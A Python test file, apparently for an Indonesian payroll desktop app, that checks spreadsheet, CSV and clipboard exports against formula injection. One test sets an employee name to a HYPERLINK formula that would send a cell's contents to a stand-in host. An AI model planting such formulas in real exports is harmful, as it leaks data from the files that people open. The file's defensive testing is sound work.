"""What leaves for a spreadsheet: every cell is what it was, and none is calculated."""

import ast
import csv
import io
from dataclasses import fields, replace
from decimal import Decimal
from hashlib import sha256
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from tests.safety.formulas import PAYLOADS, PLAIN, calculates, read
from tests.services.tpp_months import SEPTEMBER, prepared
from wfh_desktop.documents import workbook
from wfh_desktop.documents.workbook import Table
from wfh_desktop.domain import cells
from wfh_desktop.domain.errors import NotAllowed, Unwritable
from wfh_desktop.domain.people import Actor, Right
from wfh_desktop.persistence.models import AuditEntry, Employee, Recommendation, RecommendationLine
from wfh_desktop.services import tpp
from wfh_desktop.services.tpp import exporting

PACKAGE = Path(__file__).parents[2] / "wfh_desktop"
EVERYTHING = (*PAYLOADS, *PLAIN)
DELIMITERS = (";", ",", "\t", "|")


def opened(content):
    """Return all cells of a workbook, as openpyxl sees them."""
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value]


def values(content):
    """Return the values of a workbook's only sheet, as calamine sees them."""
    return CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()


def kept(text):
    """Return what of a text a workbook can hold."""
    return cells.storable(text.replace("\r\n", "\n").replace("\r", "\n"))


@pytest.fixture
def listed(work):
    """A recommendation, and a way to put words into everything of it that is a word."""
    unit = prepared(work)
    key = tpp.compute(work, unit.id, SEPTEMBER)
    work.session.flush()
    return tpp.details(work, key)


def test_there_are_enough_payloads_and_they_would_be_calculated():
    assert len(PAYLOADS) >= 40
    assert sum(map(calculates, PAYLOADS)) >= 30
    assert not any(map(calculates, PLAIN))


# One cell


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_would_be_calculated_is_guarded_and_comes_back(payload):
    guarded = cells.guarded(payload)
    assert not calculates(guarded)
    assert cells.unguarded(guarded) in {payload, payload.removeprefix("'")}
    if calculates(payload):
        assert guarded == f"'{payload}"


@pytest.mark.parametrize("plain", PLAIN)
def test_what_is_no_formula_stays_as_it_is(plain):
    assert cells.guarded(plain) == cells.unguarded(plain) == plain


# Workbooks


def text_columns(details):
    """Name every place of the list that holds words."""
    person = details.lines[0].person
    return [
        *(("person", one.name) for one in fields(person) if one.type in ("str", str)),
        ("line", "refusal"),
        *(("snapshot", name) for name in ("unit",)),
        ("details", "rules_title"),
        ("column", "caption"),
        ("search", ""),
    ]


def with_words(details, place, name, words):
    """Return the list with *words*, one a line, in one of its places."""
    lines = tuple(
        replace(details.lines[0], id=number, employee_id=number, place=number + 1)
        for number in range(len(words))
    )
    match place:
        case "person":
            lines = tuple(
                replace(line, person=replace(line.person, **{name: word}))
                for line, word in zip(lines, words, strict=True)
            )
        case "line":
            lines = tuple(
                replace(line, **{name: word}) for line, word in zip(lines, words, strict=True)
            )
        case "snapshot":
            details = replace(details, snapshot={**details.snapshot, name: words[0]})
        case "details":
            details = replace(details, **{name: words[0]})
        case "column":
            changed = [replace(one, caption=words[0]) for one in details.columns]
            details = replace(details, columns=tuple(changed))
    return replace(details, lines=lines)


def tables(details):
    """Yield the list with all payloads in each of its places in turn."""
    for place, name in text_columns(details):
        if place in {"person", "line"}:
            made = with_words(details, place, name, EVERYTHING)
            yield (place, name), exporting._table(made, list(made.lines), "")
        else:
            for word in EVERYTHING:
                made = with_words(details, place, name, (word,))
                search = word if place == "search" else ""
                yield (place, name), exporting._table(made, list(made.lines), search)


def test_no_word_of_a_list_becomes_a_formula_in_a_workbook(listed):
    tried = 0
    for where, table in tables(listed):
        content = workbook.xlsx(table)
        found = opened(content)
        assert {cell.data_type for cell in found} <= {"s", "n"}, where
        assert not any(cell.hyperlink for cell in found)
        words = [cell for cell in found if cell.data_type == "s"]
        assert all(cell.number_format == "@" and cell.quotePrefix for cell in words)
        expected = {
            kept(value)
            for value in (*table.lines, *table.heads, *(v for row in table.rows for v in row))
            if isinstance(value, str) and kept(value)
        }
        assert expected <= {cell.value for cell in words}, where
        tried += 1
    assert tried > 200


def test_another_reader_sees_the_same_words_and_exact_amounts(listed):
    made = with_words(listed, "person", "name", EVERYTHING)
    made = replace(made, lines=tuple(replace(one, refusal="=1+1") for one in made.lines))
    table = exporting._table(made, list(made.lines), "")
    rows = values(workbook.xlsx(table))
    head = next(n for n, row in enumerate(rows) if row[0] == "No")
    body = rows[head + 1 : head + 1 + len(table.rows)]
    assert [row[1] for row in body] == [kept(word) for word in EVERYTHING]
    assert {row[-1] for row in body} == {"=1+1"}
    assert {row[2] for row in body} == {listed.lines[0].person.nip}
    for place, cell in enumerate(listed.lines[0].cells, start=len(exporting.HEADS)):
        assert {Decimal(repr(row[place])) for row in body} == {cell}


@pytest.mark.parametrize(
    ("value", "seen"),
    [
        (Decimal(3915950), 3915950),
        (Decimal("0.1"), 0.1),
        (Decimal("12345678901234.5"), 12345678901234.5),
        (Decimal("1234567890123456.5"), "1234567890123456.5"),
        (198001012005011001, "198001012005011001"),
        ("198001012005011001", "198001012005011001"),
        (-5, -5),
    ],
)
def test_a_number_that_a_spreadsheet_cannot_hold_exactly_is_written_out(value, seen):
    (row,) = values(workbook.xlsx(Table("A", (), ("x",), ((value,),))))[1:]
    assert row == [seen]


def test_a_writer_that_guesses_would_be_caught():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        for number, payload in enumerate(PAYLOADS):
            sheet.write(number, 0, cells.storable(payload))
    assert sum(cell.data_type == "f" for cell in opened(out.getvalue())) >= 8


# Separated text


def test_no_word_becomes_a_formula_in_csv_whatever_it_is_separated_by(listed):
    for where, table in tables(listed):
        text = exporting._csv(table).decode("utf-8-sig")
        for delimiter in DELIMITERS:
            assert [one for one in read(text, delimiter) if calculates(one)] == [], (
                where,
                delimiter,
            )


def test_a_plain_csv_would_be_caught():
    out = io.StringIO()
    csv.writer(out, delimiter=";").writerows([[payload] for payload in PAYLOADS])
    assert sum(map(calculates, read(out.getvalue(), ";"))) >= 30
    quoted = io.StringIO()
    csv.writer(quoted, delimiter=";", quoting=csv.QUOTE_ALL).writerows(
        [["x", cells.guarded(payload)] for payload in PAYLOADS]
    )
    assert any(calculates(one) for one in read(quoted.getvalue(), ","))


def test_csv_keeps_what_was_written():
    rows = [[word, "x"] for word in EVERYTHING]
    back = list(csv.reader(io.StringIO(cells.separated(rows), newline=""), delimiter=";"))
    assert [row[0].replace("'", "") for row in back] == [
        cells.storable(word).replace("'", "") for word in EVERYTHING
    ]
    assert [row[0] for row in back][-len(PLAIN) :] == list(PLAIN)


# Clipboard


def test_no_copied_word_becomes_a_formula_and_all_come_back(qtbot):
    from wfh_desktop.views import clipboard

    copied = clipboard.cells([[word, "x"] for word in EVERYTHING])
    assert [one for one in read(copied.text(), "\t") if calculates(one)] == []
    words = [word.replace("\r\n", "\n").removeprefix("'") for word in EVERYTHING]
    assert [row[0].removeprefix("'") for row in clipboard.table(copied.text())] == words
    assert all(cells.is_formula(word) for word in EVERYTHING if calculates(word))
    assert copied.html().count("mso-number-format") >= sum(map(calculates, EVERYTHING))


def test_tables_reach_the_clipboard_only_through_the_guard():
    """Plain messages are no cells: how an amount came about, and the details of a fault."""
    messages = {"views/widgets/trail_view.py", "views/fault.py"}
    wrong = []
    for path in PACKAGE.rglob("*.py"):
        place = path.relative_to(PACKAGE).as_posix()
        if place in messages or place.startswith("forms/"):
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            to_clipboard = "clipboard()" in ast.unparse(node.func.value)
            if node.func.attr == "setText" and to_clipboard:
                wrong.append(place)
            if node.func.attr == "setMimeData" and to_clipboard:
                wrong += [place] if "clipboard.cells(" not in ast.unparse(node) else []
    assert wrong == []


# The export as a whole


def test_the_list_is_exported_whole_and_noted(work, listed, tmp_path):
    path = tmp_path / exporting.name(listed)
    assert path.name == "Daftar TPP 2026-09 Unit Contoh (DRAF).xlsx"
    assert tpp.export(work, listed.id, path) == 3
    rows = values(path.read_bytes())
    assert [row[0] for row in rows[:3]] == [
        "Daftar perhitungan TPP September 2026",
        "Unit Contoh",
        listed.rules_title,
    ]
    assert rows[-1][1] == "JUMLAH"
    assert float(listed.net) in rows[-1]
    entry = work.session.query(AuditEntry).order_by(AuditEntry.id.desc()).first()
    assert (entry.action, entry.actor) == ("recommendation.exported", "Kepala")
    assert entry.details == {
        "rows": 3,
        "search": "",
        "format": "xlsx",
        "sha256": sha256(path.read_bytes()).hexdigest(),
    }


def test_only_those_whom_a_search_left_are_exported(work, listed, tmp_path):
    path = tmp_path / "a.csv"
    only = {listed.lines[1].employee_id}
    assert tpp.export(work, listed.id, path, only=only, search="Pegawai 2") == 1
    text = path.read_bytes().decode("utf-8-sig")
    assert '"2";"Pegawai 2";"' in text
    assert "Pegawai 1" not in text
    assert "Hanya yang memuat: Pegawai 2" in text
    entry = work.session.query(AuditEntry).order_by(AuditEntry.id.desc()).first()
    assert (entry.details["rows"], entry.details["search"]) == (1, "Pegawai 2")


def test_an_export_that_cannot_be_written_leaves_no_entry(work, listed, tmp_path):
    before = work.session.query(AuditEntry).count()
    with pytest.raises(Unwritable):
        tpp.export(work, listed.id, tmp_path / "none" / "a.xlsx")
    assert work.session.query(AuditEntry).count() == before


def test_without_the_right_to_read_nothing_is_exported(work, listed, tmp_path):
    with pytest.raises(NotAllowed):
        tpp.export(replace(work, actor=Actor("Tamu", Right(0))), listed.id, tmp_path / "a.xlsx")
    assert list(tmp_path.glob("*.xlsx")) == []


def test_a_name_from_the_staff_list_arrives_as_words(work, listed, tmp_path):
    person = work.session.get(Employee, listed.lines[0].employee_id)
    person.name = '=HYPERLINK("http://x/?"&C5;"klik")'
    work.log("test.renamed", person)
    record = work.get(Recommendation, listed.id)
    tpp.compute(work, record.unit_id, SEPTEMBER)
    path = tmp_path / "a.xlsx"
    tpp.export(work, listed.id, path)
    assert person.name in {cell.value for cell in opened(path.read_bytes())}
    assert not any(cell.data_type == "f" for cell in opened(path.read_bytes()))
    assert work.session.query(RecommendationLine).count() == 3
